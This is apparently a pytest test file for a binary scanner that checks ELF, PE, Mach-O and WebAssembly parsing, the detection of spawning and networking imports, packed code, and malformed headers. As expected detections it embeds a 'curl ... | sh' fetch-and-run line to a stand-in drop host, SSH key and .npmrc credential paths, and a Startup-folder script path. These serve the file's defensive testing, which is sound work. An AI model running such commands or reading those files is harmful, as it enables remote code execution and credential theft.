"""ELF, PE, Mach-O and WebAssembly: what their headers say, and that any bytes are borne."""

import random
from types import ModuleType

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lazaretto.core.facts import Facts, Kind
from lazaretto.core.language import NoUnits
from lazaretto.languages import elf, macho, pe, wasm
from lazaretto.languages._strings import _found, _Search, addresses, strings
from tests.languages import programs

NOISE = random.Random(1).randbytes(40_000)
SAMPLES = (
    (elf, programs.elf()),
    (elf, programs.elf(wide=False, order=">")),
    (pe, programs.pe()),
    (pe, programs.pe(wide=False)),
    (macho, programs.macho()),
    (macho, programs.fat(programs.macho(), programs.macho(wide=False))),
    (wasm, programs.wasm()),
    (wasm, programs.component(programs.wasm(), programs.component(programs.wasm()))),
)


def read(module: ModuleType, data: bytes) -> Facts:
    """Read a program with the module that reads its format."""
    facts = module.read(module.ID, data, NoUnits())
    assert isinstance(facts, Facts)
    return facts


def told(facts: Facts, kind: Kind) -> list[str | None]:
    """Return the values of one kind, in order."""
    return [fact.value for fact in facts.facts if fact.kind is kind]


@pytest.mark.parametrize("wide", [True, False])
@pytest.mark.parametrize("order", ["<", ">"])
def test_elf_loads_and_imports(wide: bool, order: str) -> None:
    """Libraries and functions that can act are told in both classes and byte orders, at the place of their names."""
    data = programs.elf(wide=wide, order=order)
    facts = read(elf, data)

    assert facts.complete
    assert told(facts, Kind.IMPORT) == list(programs.LIBRARIES)
    assert told(facts, Kind.PROCESS_SPAWN) == ["execve"]
    assert told(facts, Kind.NET_CONNECT) == ["connect"]
    named = next(fact for fact in facts.facts if fact.kind is Kind.IMPORT)
    assert data[named.span.start : named.span.end].decode() == named.value


def test_strings_of_a_program() -> None:
    """Addresses, commands, places of credentials and of start-up stand among the strings."""
    facts = read(elf, programs.elf())

    assert told(facts, Kind.LITERAL_URL) == ["https://drop.example.invalid/x"]
    assert told(facts, Kind.LITERAL_IP) == ["192.0.2.7:8080"]
    assert told(facts, Kind.LITERAL_PATH) == ["/home/u/.ssh/id_rsa", "~/.bashrc"]
    assert told(facts, Kind.LITERAL_COMMAND) == ["curl -s https://drop.example.invalid/x | sh"]


@pytest.mark.parametrize("wide", [True, False])
def test_pe_imports_also_delayed_ones(wide: bool) -> None:
    """Both import tables are read, in both widths; a function that is imported by number has no name."""
    facts = read(pe, programs.pe(wide=wide))

    assert facts.complete
    assert told(facts, Kind.IMPORT) == ["KERNEL32.dll", "WINHTTP.dll"]
    assert told(facts, Kind.PROCESS_SPAWN) == ["CreateProcessW"]
    assert told(facts, Kind.NET_CONNECT) == ["WinHttpConnect"]
    assert [value and value.endswith("Startup\\x.vbs") for value in told(facts, Kind.LITERAL_PATH)] == [True]


def test_packed_code_and_overlay() -> None:
    """Code that looks like noise is packed; what stands behind the last section is an overlay."""
    facts = read(pe, programs.pe(code=NOISE, overlay=b"x" * 100))

    assert told(facts, Kind.OBFUSCATED) == ["packed:.text"]
    assert told(facts, Kind.BINARY) == ["overlay:100"]
    assert told(read(pe, programs.pe(code=b"\x90\x48\x89\xe5" * 10_000)), Kind.OBFUSCATED) == []


def test_macho_single_and_universal() -> None:
    """Each architecture of a universal file is read; a name is told without the compiler's underscore."""
    for data in (
        programs.macho(),
        programs.macho(wide=False),
        programs.fat(programs.macho(), programs.macho(wide=False)),
    ):
        facts = read(macho, data)
        assert facts.complete
        assert told(facts, Kind.IMPORT) == ["/usr/lib/libSystem.B.dylib"]
        assert told(facts, Kind.PROCESS_SPAWN) == ["posix_spawn"]
        assert told(facts, Kind.NET_CONNECT) == ["NSURLSession"]


def test_wasm_imports_of_every_kind() -> None:
    """Modules are told once, functions that can act by name; other kinds of imports are passed over."""
    facts = read(wasm, programs.wasm())

    assert facts.complete
    assert told(facts, Kind.IMPORT) == ["env", "./glue.js", "wasi_snapshot_preview1"]
    assert told(facts, Kind.CODE_EVAL) == ["emscripten_run_script"]
    assert told(facts, Kind.NET_CONNECT) == ["sock_connect"]
    assert told(facts, Kind.LITERAL_COMMAND) == ["curl -s https://drop.example.invalid/x | sh"]


def test_component_holds_modules() -> None:
    """The modules inside a component are read, and the interfaces that it imports are told."""
    facts = read(wasm, programs.component(programs.wasm()))

    assert facts.complete
    assert told(facts, Kind.NET_CONNECT) == ["sock_connect", "wasi:http/outgoing-handler"]


@pytest.mark.parametrize(("module", "data"), SAMPLES)
def test_cut_off_is_told(module: ModuleType, data: bytes) -> None:
    """A program that ends in the middle of its tables is not passed off as understood."""
    for cut in (data[:70], b""):
        facts = read(module, cut)
        assert not facts.complete


@pytest.mark.parametrize(
    ("module", "data"),
    [
        (wasm, b"\0asm\2\0\0\0"),
        (wasm, b"\0asm\1\0\0\0\2\xff\xff\xff\xff\x0f"),
        (wasm, b"\0asm\1\0\0\0\2\x05\xff\xff\xff\xff\x0f"),
        (wasm, b"\0asm\1\0\0\0\2\x06\1\1a\1b\x09"),
        (wasm, programs.component(*[programs.wasm(b"")] * 65)),
        (macho, b"\xca\xfe\xba\xbe\0\0\0\x20" + bytes(700)),
        (macho, b"\xcf\xfa\xed\xfe" + b"\xff" * 60),
        (macho, b"\xcf\xfa\xed\xfe" + bytes(12) + b"\1" + bytes(60)),
        (pe, b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0\0\0\xff\xff" + bytes(400)),
        (elf, b"\x7fELF\2\1\1" + b"\xff" * 200),
    ],
)
def test_tables_that_say_too_much(module: ModuleType, data: bytes) -> None:
    """A count or an offset beyond every bound is malformed, and costs nothing."""
    assert not read(module, data).complete


def mutated(data: st.DataObject, sample: bytes) -> bytes:
    """Return a sample with some bytes changed, cut out or put in."""
    found = bytearray(sample)
    for _ in range(data.draw(st.integers(1, 6))):
        at = data.draw(st.integers(0, max(0, len(found) - 1)))
        cut = data.draw(st.integers(0, 8))
        found[at : at + cut] = data.draw(st.binary(max_size=8))
    return bytes(found)


@settings(max_examples=150)
@given(data=st.data())
@pytest.mark.parametrize(("module", "sample"), SAMPLES)
def test_mutated_programs(module: ModuleType, sample: bytes, data: st.DataObject) -> None:
    """Whatever becomes of a program, it is read the same way twice, within the file, and nothing is raised."""
    changed = mutated(data, sample)
    facts = read(module, changed)

    assert read(module, changed) == facts
    assert all(0 <= fact.span.start <= fact.span.end <= len(changed) for fact in facts.facts)


_NAMED = (
    b"https://a.invalid/x",
    b"192.0.2.7:8080",
    b"/home/a/.npmrc",
    b"curl -s https://b.invalid | sh",
    b"a.onion",
    b"x",
)


@given(st.lists(st.one_of(st.sampled_from(_NAMED), st.binary(max_size=6)), max_size=30).map(b"".join))
def test_strings_stand_where_they_are(data: bytes) -> None:
    """To take the printable runs out first changes nothing: neither what is found nor where."""
    search = _Search()
    found = search.finish(_found(data, search.around)).facts
    whole = {fact for fact in found if fact.span.end - fact.span.start > 4}
    assert {fact for fact in strings(data).facts if fact.span.end - fact.span.start > 4} == whole
    broad = data.decode("latin-1").encode("utf-16-le")
    twice = {(fact.value, fact.span.start // 2, fact.span.end // 2) for fact in strings(broad, wide=True).facts}
    assert twice == {(fact.value, fact.span.start, fact.span.end) for fact in strings(data).facts}
    assert all(data[fact.span.start : fact.span.end].decode() == fact.value for fact in addresses(data).facts)
